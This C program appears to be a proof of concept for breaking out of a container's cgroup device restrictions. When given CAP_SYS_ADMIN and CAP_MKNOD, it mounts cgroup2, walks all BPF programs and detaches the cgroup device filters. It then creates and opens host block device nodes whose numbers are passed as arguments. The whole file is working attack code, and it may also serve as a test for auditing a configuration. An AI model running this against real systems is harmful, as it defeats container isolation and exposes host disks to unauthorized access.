/* A container with CAP_SYS_ADMIN and CAP_MKNOD that wants a block device its cgroup denies: it mounts its cgroup, takes
 * every device program off it that it finds, and tries again. Arguments: MAJOR:MINOR of each device. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int bpf(int command, union bpf_attr *attributes)
{
    return (int)syscall(SYS_bpf, command, attributes, sizeof *attributes);
}

static int detach(int cgroup, uint32_t id)
{
    union bpf_attr attributes;
    memset(&attributes, 0, sizeof attributes);
    attributes.prog_id = id;
    int program = bpf(BPF_PROG_GET_FD_BY_ID, &attributes);
    if (program < 0)
        return 0;
    memset(&attributes, 0, sizeof attributes);
    attributes.target_fd = (uint32_t)cgroup;
    attributes.attach_bpf_fd = (uint32_t)program;
    attributes.attach_type = BPF_CGROUP_DEVICE;
    int detached = bpf(BPF_PROG_DETACH, &attributes) == 0;
    close(program);
    return detached;
}

static int detach_all(int cgroup)
{
    union bpf_attr attributes;
    int count = 0;
    uint32_t id = 0;
    for (;;) {
        memset(&attributes, 0, sizeof attributes);
        attributes.start_id = id;
        if (bpf(BPF_PROG_GET_NEXT_ID, &attributes) != 0)
            return count;
        id = attributes.next_id;
        count += detach(cgroup, id);
    }
}

static void reach(const char *when, const char *numbers)
{
    unsigned first, second;
    if (sscanf(numbers, "%u:%u", &first, &second) != 2)
        return;
    unlink("/tmp/node");
    if (mknod("/tmp/node", S_IFBLK | 0600, makedev(first, second)) != 0) {
        printf("%s %s: mknod: %s\n", when, numbers, strerror(errno));
        return;
    }
    int node = open("/tmp/node", O_RDONLY);
    printf("%s %s: %s\n", when, numbers, node >= 0 ? "open" : strerror(errno));
    if (node >= 0)
        close(node);
}

int main(int argc, char **argv)
{
    for (int i = 1; i < argc; i++)
        reach("before", argv[i]);
    if (mount("cgroup2", "/sys", "cgroup2", 0, NULL) != 0)
        return perror("mount"), 1;
    int cgroup = open("/sys", O_RDONLY | O_DIRECTORY);
    printf("detached %d\n", detach_all(cgroup));
    for (int i = 1; i < argc; i++)
        reach("after", argv[i]);
    return 0;
}
